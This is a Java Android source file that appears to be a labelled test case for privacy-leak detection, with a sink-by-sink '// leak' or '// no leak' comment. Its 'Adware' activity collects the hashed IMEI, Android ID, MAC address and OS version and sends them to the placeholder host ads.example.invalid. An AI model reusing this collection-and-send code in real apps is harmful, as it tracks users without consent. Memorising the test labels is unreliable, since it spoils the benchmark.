package trojans;

import android.app.Activity;
import android.content.Context;
import android.net.wifi.WifiManager;
import android.os.AsyncTask;
import android.os.Build;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import android.util.DisplayMetrics;
import android.webkit.WebView;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;
import java.security.MessageDigest;
import java.util.HashMap;
import java.util.Iterator;
import java.util.Map;
import java.util.TreeMap;

/** An advertising kit: one instance, parameters in a map, a builder of addresses. */
public class Adware extends Activity {
    static final class Kit {
        private static Kit one;
        private final Context context;
        private final Map<String, String> params = new HashMap<>();

        private Kit(Context context) {
            this.context = context.getApplicationContext();
        }

        static synchronized Kit get(Context context) {
            if (one == null) {
                one = new Kit(context);
                one.fill();
            }
            return one;
        }

        private void fill() {
            TelephonyManager phone = (TelephonyManager) context.getSystemService("phone");
            params.put("imei", md5(phone.getDeviceId()));
            params.put("aid", Settings.Secure.getString(context.getContentResolver(), "android_id"));
            params.put("mac", ((WifiManager) context.getSystemService("wifi")).getConnectionInfo().getMacAddress());
            params.put("os", Build.VERSION.RELEASE);
        }

        String query() throws Exception {
            StringBuilder out = new StringBuilder();
            Iterator<Map.Entry<String, String>> entries = new TreeMap<>(params).entrySet().iterator();
            while (entries.hasNext()) {
                Map.Entry<String, String> entry = entries.next();
                if (out.length() > 0) {
                    out.append('&');
                }
                out.append(entry.getKey()).append('=').append(URLEncoder.encode(entry.getValue(), "UTF-8"));
            }
            return out.toString();
        }

        String keys() {
            return params.keySet().toString();
        }

        String os() {
            return params.get("os");
        }
    }

    static String md5(String text) {
        try {
            MessageDigest digest = MessageDigest.getInstance("MD5");
            digest.update(text.getBytes());
            StringBuilder out = new StringBuilder();
            for (byte one : digest.digest()) {
                out.append(String.format("%02x", one & 0xff));
            }
            return out.toString();
        } catch (Exception e) {
            return "";
        }
    }

    static class Load extends AsyncTask<String, Integer, String> {
        private final WebView into;

        Load(WebView into) {
            this.into = into;
        }

        @Override
        protected String doInBackground(String... urls) {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL(urls[0]).openConnection(); // leak
                c.getInputStream();
                return c.getHeaderField("Location");
            } catch (Exception e) {
                return null;
            }
        }

        @Override
        protected void onPostExecute(String next) {
            into.loadUrl(next); // no leak
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WebView banner = new WebView(this);
        setContentView(banner);
        try {
            new Load(banner).execute("http://ads.example.invalid/get?" + Kit.get(this).query());
            banner.loadUrl("http://ads.example.invalid/show?" + Kit.get(this).query()); // leak
            banner.loadUrl("http://ads.example.invalid/os?" + Kit.get(this).os()); // no leak
            banner.postUrl("http://ads.example.invalid/keys", Kit.get(this).keys().getBytes()); // no leak
            banner.evaluateJavascript("init('" + Kit.get(this).params.get("aid") + "')", null); // leak
        } catch (Exception e) {
            banner.stopLoading();
        }
        DisplayMetrics size = getResources().getDisplayMetrics();
        new Thread(() -> size(size.widthPixels + "x" + size.heightPixels)).start();
    }

    private void size(String what) {
        try {
            OutputStream out = new URL("http://ads.example.invalid/size").openConnection().getOutputStream();
            out.write(what.getBytes()); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
